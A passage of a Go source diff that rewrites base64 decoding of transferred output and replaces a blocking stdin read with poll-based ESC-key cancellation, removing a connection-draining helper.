+		line = strings.TrimSpace(line)
+		if len(line) > 0 && !strings.HasPrefix(line, "-----") {
+			base64Lines = append(base64Lines, line)
+		}
+	}
 
-// isBase64Like checks if a string looks like base64 data
-func isBase64Like(s string) bool {
-	if len(s) < 10 {
-		return false
+	if len(base64Lines) == 0 {
+		return nil, errEmptyOutput
 	}
-	// Base64 only contains: A-Z, a-z, 0-9, +, /, =
-	for _, ch := range s {
-		if !((ch >= 'A' && ch <= 'Z') || (ch >= 'a' && ch <= 'z') ||
-			(ch >= '0' && ch <= '9') || ch == '+' || ch == '/' || ch == '=') {
-			return false
-		}
+
+	// Decode
+	decoded, err := base64.StdEncoding.DecodeString(strings.Join(base64Lines, ""))
+	if err != nil {
+		return nil, fmt.Errorf("failed to decode: %w", err)
 	}
-	return true
+	return decoded, nil
 }
 
 // splitIntoChunks splits a string into chunks of specified size
@@ -649,21 +663,6 @@ func isHex(s string) bool {
 	return err == nil
 }
 
-// DrainOutput drains any pending output from connection
-func (t *Transferer) DrainOutput() {
-	buffer := make([]byte, 4096)
-	t.conn.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
-
-	for {
-		_, err := t.conn.Read(buffer)
-		if err != nil {
-			break
-		}
-	}
-
-	t.conn.SetReadDeadline(time.Time{})
-}
-
 // min returns the minimum of two integers
 func min(a, b int) int {
 	if a < b {
@@ -672,14 +671,31 @@ func min(a, b int) int {
 	return b
 }
 
+// cancelOnESC runs WatchForCancel in the background
+// The returned stop ends the watch and waits until the terminal is restored,
+// so keys typed right after it go to the prompt
+func cancelOnESC(ctx context.Context, cancel context.CancelFunc) (stop func()) {
+	done := make(chan struct{})
+	go func() {
+		WatchForCancel(ctx, cancel)
+		close(done)
+	}()
+	return func() {
+		cancel()
+		<-done
+	}
+}
+
 // WatchForCancel watches for ESC key press and cancels context
 func WatchForCancel(ctx context.Context, cancel context.CancelFunc) {
+	fd := int(os.Stdin.Fd())
+
 	// Save terminal state
-	oldState, err := term.MakeRaw(int(os.Stdin.Fd()))
+	oldState, err := term.MakeRaw(fd)
 	if err != nil {
 		return
 	}
-	defer term.Restore(int(os.Stdin.Fd()), oldState)
+	defer term.Restore(fd, oldState)
 
 	buf := make([]byte, 3)
 	for {
@@ -687,20 +703,28 @@ func WatchForCancel(ctx context.Context, cancel context.CancelFunc) {
 		case <-ctx.Done():
 			return
 		default:
-			// Set read timeout to check context periodically
-			os.Stdin.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
-			n, err := os.Stdin.Read(buf)
-			if err != nil {
-				continue
-			}
-
-			if n > 0 {
-				// ESC key is byte 27
-				if buf[0] == 27 {
-					cancel()
-					return
-				}
-			}
+		}
+
+		// Poll with a timeout to check context periodically: stdin is blocking,
+		// so a pending Read would swallow the first keys typed at the prompt
+		fds := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}
+		ready, err := unix.Poll(fds, 100)
+		if err == unix.EINTR || (err == nil && ready == 0) {
+			continue
+		}
+		if err != nil {
+			return
+		}
+
+		n, err := os.Stdin.Read(buf)
+		if err != nil || n == 0 {
+			return
+		}
+
+		// ESC key is byte 27
+		if buf[0] == 27 {
+			cancel()
+			return
 		}
 	}
 }